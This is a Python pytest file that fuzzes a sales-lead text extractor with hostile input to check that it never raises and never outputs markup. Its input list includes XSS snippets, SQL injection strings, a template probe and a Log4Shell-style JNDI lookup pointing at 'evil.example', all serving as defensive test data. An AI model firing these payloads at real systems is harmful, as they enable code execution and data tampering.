"""Whatever a stranger types gives an empty or partial result, never an exception."""

import datetime as dt
import json

import pytest

from nlu import Attributes, extract
from nlu.attributes import Location
from nlu.extract import where_for_the_call
from nlu.text import MAX_CHARS

NOW = "2026-11-23"
FIELDS = (None, "budget", "authority", "need", "timing", "company_size", "revenue", "industry", "location", "tech_stack",
          "email", "name", "company", "persona", "nonsense")

HOSTILE = [
    "",
    " ",
    "\n\n\t",
    "😀😀🚀🔥💯",
    "<script>alert('x')</script>",
    "<img src=x onerror=alert(1)>our budget is 50k",
    "'; DROP TABLE leads; --",
    "1 OR 1=1; SELECT * FROM users WHERE email='a@b.com'",
    "{{7*7}} ${jndi:ldap://evil.example/a}",
    "\x00\x01\x02 budget \x07 20k \x1b[31m",
    "Wir haben ein Budget von 50.000 € und sind in München, 我们在上海 نحن في دبي",
    "бюджет 10 тысяч долларов",
    "\u202e\u200b\ufeff20k\u2060",
    "9" * 5000,
    "1" * 40 + "k",
    "$" * 1000,
    "-" * 1000 + "10-20k",
    "k" * 2000,
    "a@" * 3000,
    "@@@@....@@@",
    "next next next next quarter quarter",
    "Q9 2099 on the 45th of Smarch",
    "31/02/2027",
    "99/99/9999",
    "in 9999999999 years",
    "between 10 and 5",
    "NaN inf -inf 1e308 1e999",
    "((((((((((((((((((((",
    "\\" * 500,
]


@pytest.mark.parametrize("text", HOSTILE, ids=[f"text{i}" for i in range(len(HOSTILE))])
@pytest.mark.parametrize("field", FIELDS, ids=str)
def test_never_raises_and_follows_the_contract(text, field):
    result = extract(text, field=field, now=NOW)
    assert isinstance(result, Attributes)
    out = result.to_dict()
    assert Attributes.from_dict(json.loads(json.dumps(out))).to_dict() == out


# The place a call's zone is read from (``where_for_the_call``, the booking's zone reply) reads the same stranger's text.
@pytest.mark.parametrize("text", [*HOSTILE, None, 42, "I'll be in " * 5000 + "Singapore next week"],
                         ids=[f"text{i}" for i in range(len(HOSTILE) + 3)])
def test_the_place_for_a_call_never_raises(text):
    where = where_for_the_call(text, "en")
    assert where is None or isinstance(where, Location)


def test_lone_surrogates_from_json_are_read():
    text = json.loads('"\\ud800 budget \\udfff 20k \\ud83d"')
    out = extract(text, field="budget", now=NOW).to_dict()
    assert out["budget"]["min"] == 20000
    json.dumps(out).encode("utf-8")


def test_a_hundred_kilobytes_is_read_up_to_the_limit_and_quickly():
    text = ("we are a SaaS company with 40 people in Berlin, budget 20k. " * 2000)[:100_000]
    assert len(text) == 100_000
    started = dt.datetime.now()
    out = extract(text, now=NOW).to_dict()
    assert (dt.datetime.now() - started).total_seconds() < 5
    assert out["company_size"] == {"min": 40, "max": 40}
    assert out["location"]["country"] == "DE"
    tail_only = "x" * MAX_CHARS + " jane@acme.io"
    assert "email" not in extract(tail_only, now=NOW).to_dict()


def test_empty_and_whitespace_give_nothing():
    for text in ("", "   ", "\n"):
        assert extract(text, field="budget", now=NOW).to_dict() == {}


def test_only_emoji_gives_nothing():
    assert extract("🙂🙃🚀", field=None, now=NOW).to_dict() == {}


def test_markup_is_never_produced_and_text_fields_stay_plain():
    out = extract("<b>my name is <i>Jane Doe</i></b>, we need <script>seo()</script> help", now=NOW).to_dict()
    assert out["need"]["categories"] == ["seo"]
    assert "name" not in out or "<" not in out["name"]
    answer = extract("<script>alert(1)</script>", field="name", now=NOW).to_dict()
    assert "name" not in answer
    company = extract('<a href="http://evil">Acme</a>', field="company", now=NOW).to_dict()
    assert "company" not in company


def test_need_summary_keeps_the_visitors_words_as_plain_text():
    text = "our SEO is <b>terrible</b> & we need help"
    out = extract(text, field="need", now=NOW).to_dict()
    assert out["need"]["summary"] == text
    assert out["need"]["categories"] == ["seo"]


def test_non_string_input_does_not_raise():
    assert extract(None, now=NOW).to_dict() == {}  # type: ignore[arg-type]
    assert extract(12345, field="budget", now=NOW).to_dict()["budget"]["min"] == 12345  # type: ignore[arg-type]


def test_bad_currency_falls_back():
    out = extract("next quarter", field="timing", now=NOW, default_currency="??").to_dict()
    assert out["timing"]["status"] == "stated"
    assert extract("20k", field="budget", default_currency="<x>", now=NOW).to_dict()["budget"]["currency"] == "USD"
